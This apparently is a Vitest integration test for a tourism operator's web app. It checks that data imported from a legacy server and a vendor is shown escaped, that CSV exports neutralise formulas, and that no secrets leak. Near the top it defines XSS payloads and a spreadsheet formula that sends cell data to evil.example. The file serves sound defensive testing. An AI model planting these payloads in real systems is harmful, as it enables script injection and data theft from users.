import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { createPlainBrowser, findForm, type PlainBrowser } from '../../../support/browser/plain-browser.ts'
import { seededPassword } from '../../../support/database/seeded-password.ts'
import { type LegacyServer, startLegacyServer } from '../../../support/server/legacy.ts'
import { type OperatorWorld, openOperatorWorld } from '../../../support/world/operator.ts'

const script = '<script>alert(1)</script>'
const image = '"><img src=x onerror=alert(1)>'
const formula = '=HYPERLINK("http://evil.example/?"&A1;"Clique")'
const shownScript = '&lt;script&gt;alert(1)&lt;/script&gt;'
const path = '/configurations/integrations'

let legacy: LegacyServer
let vendor: Server
let world: OperatorWorld
let manager: PlainBrowser

beforeAll(async () => {
  legacy = await startLegacyServer({ servico: { password: 'senha-do-servico', data: { token: 'tok-1' } } }, 'jsonp')
  legacy.rows['/users/whoami'] = [{ User: { id: 1, username: 'servico' } }]
  legacy.rows['/products/index'] = [{ Product: { id: 1, nome: `Gruta ${script}` } }]
  legacy.rows['/clients/index'] = [
    { Client: { id: 1, nome: `Zuleica ${script}`, telefone: '75999990001' } },
    { Client: { id: 2, nome: 'Sem Contato' } },
    { Client: { id: 3, nome: image, telefone: '75999990002', cidade: image, observacoes: image } },
    { Client: { id: 4, nome: formula, telefone: '75999990003', email: 'f@example.com' } }
  ]
  legacy.rows['/agents/index'] = [{ Agent: { id: 1, nome: image, sobre: image } }, { Agent: { id: 2, nome: formula } }]
  legacy.rows['/products/index']?.push({ Product: { id: 2, nome: image, descricao: image, endereco: formula } })
  const visit = {
    product_id: 2,
    status: 'PAGO',
    sdate: '05/03/2024',
    created: '2024-03-01',
    pessoas: 1,
    valor: '80,00'
  }
  legacy.rows['/bills/index'] = [
    { Bill: { id: 1, nome: image, telefone: '75999990002', booking_code: 'ANT1', ...visit } },
    { Bill: { id: 2, nome: formula, telefone: '75999990003', booking_code: '=1+1', ...visit } },
    { Bill: { id: formula, nome: image, ...visit, status: image, sdate: formula } }
  ]
  const spent = {
    data: '10/03/2024',
    valor: '9,00',
    tipo: 'saida',
    fornecedor: formula,
    categoria: image,
    status: 'PAGO'
  }
  legacy.rows['/transactions/index'] = [
    { Transaction: { id: 1, descricao: image, ...spent } },
    { Transaction: { id: 2, descricao: formula, ...spent, tipo: image } },
    { Transaction: { id: 3, descricao: formula, ...spent } }
  ]
  vendor = createServer((_request, response) => {
    response.end(JSON.stringify([{ id: 1, nome: `Mirante ${script}`, lat: '-12,5', lng: '-41,4' }]))
  })
  await new Promise<void>((resolve) => vendor.listen(0, '127.0.0.1', resolve))
  world = await openOperatorWorld({
    LEGACY_API_URL: legacy.url,
    LEGACY_API_USERNAME: 'servico',
    LEGACY_API_PASSWORD: 'senha-do-servico',
    LEGACY_POI_URL: `http://127.0.0.1:${(vendor.address() as AddressInfo).port}/poi`,
    LEGACY_POI_USERNAME: 'vendedor',
    LEGACY_POI_PASSWORD: 'senha-do-vendedor',
    LEGACY_POI_API_KEY: 'chave-do-vendedor'
  })
  manager = createPlainBrowser(world.app.url)
  await manager.signIn('gestor', seededPassword)
})
afterAll(async () => {
  await world?.close()
  await legacy?.close()
  vendor?.close()
})

/** Nothing that another program said is markup, and none of the settings' secrets is shown. */
function requirePlain(html: string) {
  expect(html).not.toContain('<script>alert')
  expect(html).not.toContain('<img src=x')
  expect(html).not.toMatch(/senha-do-|chave-do-vendedor|tok-1/)
}

describe('integrations', { shuffle: false }, () => {
  it('are shown with their state and host, and tested by a button', async () => {
    const page = await manager.get(path)
    expect(page.text).toContain(new URL(legacy.url).host)
    expect(page.text).toContain('Este programa a responde por si mesmo.')
    const form = findForm(page, 'Testar: Sistema antigo (PHP)')
    const tested = await manager.submit(form)
    expect(tested.text).toContain('Sistema antigo (PHP): Responde, e aceita o usuário da configuração.')
    expect(tested.text).toMatch(/Último teste, .*: Responde/)
    expect((await manager.submit(form)).text).toContain('espere alguns segundos')
    requirePlain(tested.html)
  })

  it('need permission', async () => {
    const gate = createPlainBrowser(world.app.url)
    await gate.signIn('portaria', seededPassword)
    for (const to of [path, `${path}/import`, `${path}/import.csv?id=x`])
      expect((await gate.get(to)).path).toBe('/dashboard/index')
  })

  it('bring the vendor’s points beside the place’s own, as text', async () => {
    const page = await manager.get('/products/poi')
    expect(page.html).toContain(`Mirante ${shownScript}`)
    requirePlain(page.html)
  })

  it("import the legacy server's data: first a preview, then for good, with a report", async () => {
    const over = async () => {
      const page = await manager.get(`${path}/import`)
      expect(page.text).toContain('Terminada')
      return page
    }
    const done = (title: string) =>
      vi.waitFor(
        async () => {
          const page = await over()
          expect(page.text).toContain(title)
          return page
        },
        { timeout: 30_000, interval: 200 }
      )
    const start = findForm(await manager.get(`${path}/import`), 'Conferir antes')
    expect((await manager.submit(start, { button: 'Conferir antes' })).text).toContain('Conferência começada.')
    const looked = await done('Conferência de')
    await manager.submit(findForm(looked, 'Importar'), { button: 'Importar' })
    const page = await done('Importação de')
    expect(page.text).toContain('Sem documento nem telefone')
    const csv = await manager.get(page.links.find((to) => to.startsWith(`${path}/import.csv`)) ?? '')
    expect(csv.html).toMatch(/Clientes;2;Ficou de fora;/)
    const clients = await manager.get('/clients/index?q=Zuleica')
    expect(clients.html).toContain(`Zuleica ${shownScript}`)
    for (const { html } of [page, clients, await manager.get('/products/index')]) requirePlain(html)
    expect(world.app.output()).not.toMatch(/senha-do-|Zuleica/)
  }, 60_000)

  it("show the legacy server's names as text, on every page and in every file", async () => {
    const period = 'inicio=2024-03-01&fim=2024-03-31'
    const lists = [
      '/clients/index?q=HYPERLINK',
      '/clients/index?q=onerror',
      '/agents/index',
      '/products/index',
      '/operation/booking-list?inicio=2024-03-05',
      '/operation/index/2024-03-05/sheet',
      '/configurations/audit',
      `/financial/index?${period}`,
      `/reports/sales?${period}`,
      '/messages/new',
      `${path}/import`
    ]
    const one =
      /^\/(?:clients|agents|products|operation\/booking-list|financial\/transactions)\/[0-9a-f-]{1,36}(?:\/edit)?$/
    const seen = new Map<string, string>()
    for (const to of lists) {
      const { status, links, html } = await manager.get(to)
      expect([to, status]).toEqual([to, 200])
      seen.set(to, html)
      if (html.includes('onerror=alert') || html.includes('HYPERLINK'))
        for (const link of links.filter((link) => one.test(link)).slice(0, 4))
          if (!seen.has(link)) seen.set(link, (await manager.get(link)).html)
    }
    for (const [to, html] of seen) expect([to, html.includes('<img src=x')]).toEqual([to, false])
    const showing = [...seen.values()].filter((html) => html.includes('&lt;img src=x') || html.includes('HYPERLINK'))
    expect(showing.length).toBeGreaterThan(10)
    const reports = (await manager.get(`${path}/import`)).links.filter((to) => to.startsWith(`${path}/import.csv`))
    expect(reports.length).toBeGreaterThan(0)
    const files = [
      ...reports,
      '/clients/index.csv',
      '/agents/index.csv',
      '/products/index.csv',
      '/operation/index/2024-03-05/sheet.csv',
      `/financial/index.csv?${period}`,
      `/reports/sales.csv?${period}`,
      `/financial/close/2024-03-05/sheet.csv`
    ]
    const cells: string[] = []
    for (const to of files) {
      const { status, html } = await manager.get(to)
      expect([to, status]).toEqual([to, 200])
      cells.push(...(html.match(/(?:^|;)"?[^;"\n]*HYPERLINK/gm) ?? []))
    }
    expect(cells.length).toBeGreaterThan(3)
    for (const cell of cells) expect(cell).not.toMatch(/^;?"?\s*=/)
  }, 60_000)
})
